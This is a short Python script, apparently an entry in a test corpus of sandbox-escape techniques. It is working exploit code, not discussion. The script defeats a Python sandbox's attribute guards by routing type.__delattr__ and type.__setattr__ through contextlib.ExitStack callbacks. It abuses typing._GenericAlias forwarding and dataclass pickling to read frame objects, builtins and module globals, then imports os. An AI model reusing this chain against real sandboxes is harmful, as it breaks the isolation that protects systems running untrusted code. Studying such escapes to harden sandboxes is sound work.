# technique: contextlib.ExitStack.callback as a trampoline: type.__delattr__ called from contextlib's frame skips guard_type_setattro's name rule (caller_is_user() is false), restoring typing._GenericAlias's __getattr__ forwarding on a user subclass; a frozen slots dataclass's _dataclass_getstate (reached through copy.copy) then does the real getattr(self, field.name) -> typing forwards 'gi_frame'/'f_builtins' to an object we choose, from a stdlib frame; a property read as the next field re-adds the user __getattr__ (same trampoline) so copy's state checks pass, and _dataclass_setstate stores the value in the copy's __dict__
# expect: any
import contextlib, copy, dataclasses, json, typing
GA = type(typing.List[int])                 # typing._GenericAlias: __getattr__ forwards to __origin__
def tramp(f, *a):                           # f(*a) called from contextlib's frame, not ours
    with contextlib.ExitStack() as s:
        s.callback(f, *a)
def ga(self, name):
    raise AttributeError(name)
class B(GA, _root=True):
    def __getattr__(self, name):            # own hook: passes guard_type_new's forwarding check
        raise AttributeError(name)
    def __init_subclass__(cls, **kw):       # typing._Final wants _root=True; dataclass(slots) omits it
        pass
@dataclasses.dataclass(frozen=True, slots=True)   # frozen+slots: __getstate__ = dataclasses._dataclass_getstate
class X(B):
    a: int = 0
    b: int = 0
    @property
    def __reduce__(self):                   # hide typing's __reduce__: object.__reduce_ex__ takes
        raise AttributeError("__reduce__")  # the default path and calls __getstate__
FA, FB = X.__dataclass_fields__["a"], X.__dataclass_fields__["b"]
def restore(self):                          # runs inside _dataclass_getstate, after the forwarded read
    tramp(type.__setattr__, B, "__getattr__", ga)
    return 0
X.zz = property(restore, lambda self, v: None)
FB.name = "zz"
def uget(obj, name):
    x = X()
    object.__setattr__(x, "__origin__", obj)
    FA.name = name
    tramp(type.__delattr__, B, "__getattr__")   # the name rule is skipped for non-user callers
    y = copy.copy(x)                        # _dataclass_setstate stores the read value in y.__dict__
    return vars(y)[name]
gen = json.JSONEncoder().iterencode({"a": 1})
fr = uget(gen, "gi_frame")
print(fr)
b = uget(fr, "f_builtins")
os_mod = b["__import__"]("os")
g = uget(fr, "f_globals")                  # json.encoder's module globals
print(b["open"], os_mod, os_mod.getpid(), sorted(g)[:4])
